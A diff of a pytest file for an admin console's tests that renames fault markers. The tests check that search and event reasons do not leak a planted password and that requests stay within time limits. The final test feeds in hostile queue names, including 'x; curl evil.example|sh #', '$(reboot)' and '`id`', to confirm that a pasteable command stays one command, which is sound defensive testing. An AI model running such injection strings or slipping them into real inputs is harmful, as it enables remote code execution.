@@ -41,33 +41,33 @@ def finds(client, text: str) -> bool:
 
 
 class TestSearch:
-    @pytest.mark.fault("F150")
+    @pytest.mark.fault("console_asked_for_hidden_data")
     def test_who_may_not_see_messages_learns_nothing_of_them(self, failed, session_with):
         client = session_with("view_task")
         assert finds(client, "RuntimeError")
         guesses = ("login", "pass", "passw", "password=", "password=h", "password=x", "hunter2", "at bank", "bank")
         assert not any(finds(client, guess) for guess in guesses)
 
-    @pytest.mark.fault("F150")
+    @pytest.mark.fault("console_asked_for_hidden_data")
     def test_nobody_learns_what_is_hidden_from_all(self, failed, operator):
         assert finds(operator, "at bank")
         assert finds(operator, "password=")
         assert not finds(operator, "password=h")
         assert not finds(operator, "hunter2")
 
-    @pytest.mark.fault("F150")
+    @pytest.mark.fault("console_asked_for_hidden_data")
     def test_a_confirmation_counts_no_more_than_the_list(self, failed, session_with):
         client = session_with("view_task", "retry_task")
         asked = client.post(f"{LIST}?q=error:bank", {"action": "retry_selected", "select_across": "1", "index": 0})
         assert asked.context["possible"] == "0"
 
-    @pytest.mark.fault("F150")
+    @pytest.mark.fault("console_asked_for_hidden_data")
     def test_no_column_can_be_asked_for_in_the_address(self, failed, session_with):
         client = session_with("view_task")
         for lookup in LOOKUPS:
             assert client.get(LIST, {lookup: "p"}).status_code == 400, lookup
 
-    @pytest.mark.fault("F152")
+    @pytest.mark.fault("expensive_console_requests")
     def test_its_cost_does_not_grow_with_the_number_of_words(self, failed, operator, database):
         def asked(query: str) -> int:
             with CaptureQueriesContext(connections[database]) as queries:
@@ -87,7 +87,7 @@ class TestSearch:
 
 
 class TestTime:
-    @pytest.mark.fault("F152")
+    @pytest.mark.fault("expensive_console_requests")
     def test_everything_that_a_request_asks_is_within_the_limit(self, failed, operator, monkeypatch):
         monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", -100.0)
         for page in ("overview/", "task/?q=error:bank", "failuregroup/", "queue/", "worker/"):
@@ -95,7 +95,7 @@ class TestTime:
             assert response.status_code == 200, page
             assert "took too long" in response.content.decode(), page
 
-    @pytest.mark.fault("F152")
+    @pytest.mark.fault("expensive_console_requests")
     def test_a_statement_that_takes_too_long_is_cancelled(self, database, monkeypatch):
         monkeypatch.setattr(timeouts, "STATEMENT_SECONDS", 0.02)
         monkeypatch.setattr(timeouts, "REQUEST_SECONDS", 0.0)
@@ -138,7 +138,7 @@ class TestReasons:
         urls += [f"task/{pk}/change/" for pk in Task.objects.values_list("pk", flat=True)]
         return "".join(client.get(f"{BASE}/{url}").content.decode() for url in urls)
 
-    @pytest.mark.fault("F151")
+    @pytest.mark.fault("reasons_that_quote_secrets")
     def test_they_are_not_told_without_the_permission(self, told, session_with):
         reasons = [event.data["reason"] for event in TaskEvent.objects.filter(data__has_key="reason")]
         assert ["planted" in reason and "hunter2" not in reason for reason in reasons] == [True, True]
@@ -146,14 +146,14 @@ class TestReasons:
         assert "planted" not in shown
         assert "hunter2" not in shown
 
-    @pytest.mark.fault("F151")
+    @pytest.mark.fault("reasons_that_quote_secrets")
     def test_they_are_told_without_their_secrets(self, told, operator):
         shown = self.pages(operator)
         assert shown.count("planted") >= 4
         assert "hunter2" not in shown
 
 
-@pytest.mark.fault("F157")
+@pytest.mark.fault("names_in_commands_to_paste")
 @pytest.mark.parametrize("queue", ["x; curl evil.example|sh #", "$(reboot)", "a'b", "-rf", "`id`", "two words"])
 def test_a_command_to_paste_is_one_command_whatever_a_queue_is_called(queue, database, operator):
     with override_settings(TASKS=ANY_QUEUE):
